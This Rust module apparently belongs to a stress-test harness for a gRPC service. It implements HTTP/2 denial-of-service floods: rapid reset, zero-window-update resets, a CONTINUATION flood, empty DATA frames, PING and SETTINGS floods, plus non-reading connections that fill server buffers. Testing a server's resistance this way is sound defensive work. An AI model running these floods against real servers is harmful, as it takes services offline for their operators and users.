//! Attackers that send as many frames as are taken.

use std::io;

use tokio::{
    io::{AsyncWriteExt as _, split},
    select,
};

use super::{
    super::frames::{self, END_HEADERS, PAYLOAD_MAX},
    Attacker,
};

/// Frames in one write.
const BURST: u32 = 128;

const GET_MANIFEST: &str = "/acquaint.v1.DiscoveryService/GetManifest";
const EVALUATE: &str = "/acquaint.v1.DiscoveryService/Evaluate";

impl Attacker {
    pub(super) async fn rapid_reset(&mut self) -> io::Result<()> {
        let block = self.proper_call(GET_MANIFEST);
        let pair = move |stream| {
            [frames::headers(stream, &block, END_HEADERS), frames::reset(stream)].concat()
        };
        self.flood(&[], true, streams(pair)).await
    }

    pub(super) async fn provoked_reset(&mut self) -> io::Result<()> {
        let block = self.proper_call(GET_MANIFEST);
        // An increment of zero is an error of the stream (RFC 9113, section 6.9).
        let pair = move |stream| {
            [frames::headers(stream, &block, END_HEADERS), frames::window_update(stream, 0)]
                .concat()
        };
        self.flood(&[], true, streams(pair)).await
    }

    pub(super) async fn continuation(&mut self) -> io::Result<()> {
        let opening = frames::headers(1, &frames::field("begun", "yes"), 0);
        let value = "x".repeat(PAYLOAD_MAX / 2);
        let burst = frames::continuation(1, &frames::field("more", &value)).repeat(BURST as usize);
        self.flood(&opening, true, move || burst.clone()).await
    }

    pub(super) async fn empty_data(&mut self) -> io::Result<()> {
        let opening = frames::headers(1, &self.proper_call(EVALUATE), END_HEADERS);
        let burst = frames::data(1, &[], 0).repeat(BURST as usize);
        self.flood(&opening, true, move || burst.clone()).await
    }

    pub(super) async fn pings(&mut self) -> io::Result<()> {
        let burst: Vec<u8> = (0..u64::from(BURST)).flat_map(frames::ping).collect();
        self.flood(&[], self.reads(), move || burst.clone()).await
    }

    pub(super) async fn settings(&mut self) -> io::Result<()> {
        let sizes = (0..BURST).map(|i| [(frames::INITIAL_WINDOW_SIZE, 60_000 + i)]);
        let burst: Vec<u8> = sizes.flat_map(|size| frames::settings(&size)).collect();
        self.flood(&[], self.reads(), move || burst.clone()).await
    }

    /// Sends an opening, then bursts without end. Who does not read fills the server's buffers.
    async fn flood(
        &mut self,
        opening: &[u8],
        reads: bool,
        mut burst: impl FnMut() -> Vec<u8>,
    ) -> io::Result<()> {
        let (read, mut write) = split(self.target.http2(self.number, &[]).await?);
        write.write_all(opening).await?;
        self.is_up();
        let writing = async {
            loop {
                write.write_all(&burst()).await?;
                write.flush().await?;
                self.sent(u64::from(BURST));
            }
        };
        if !reads {
            return writing.await;
        }
        select! {
            ended = self.drain(read) => ended,
            ended = writing => ended,
        }
    }

    fn reads(&self) -> bool {
        self.number.is_multiple_of(2)
    }

    fn proper_call(&self, path: &str) -> Vec<u8> {
        frames::call(path, Some(self.target.credential(self.number)))
    }
}

/// Bursts on streams of their own, as far as a connection has numbers for them.
fn streams(mut frames: impl FnMut(u32) -> Vec<u8>) -> impl FnMut() -> Vec<u8> {
    let mut numbers = (1..1 << 31).step_by(2);
    move || numbers.by_ref().take(BURST as usize).flat_map(&mut frames).collect()
}
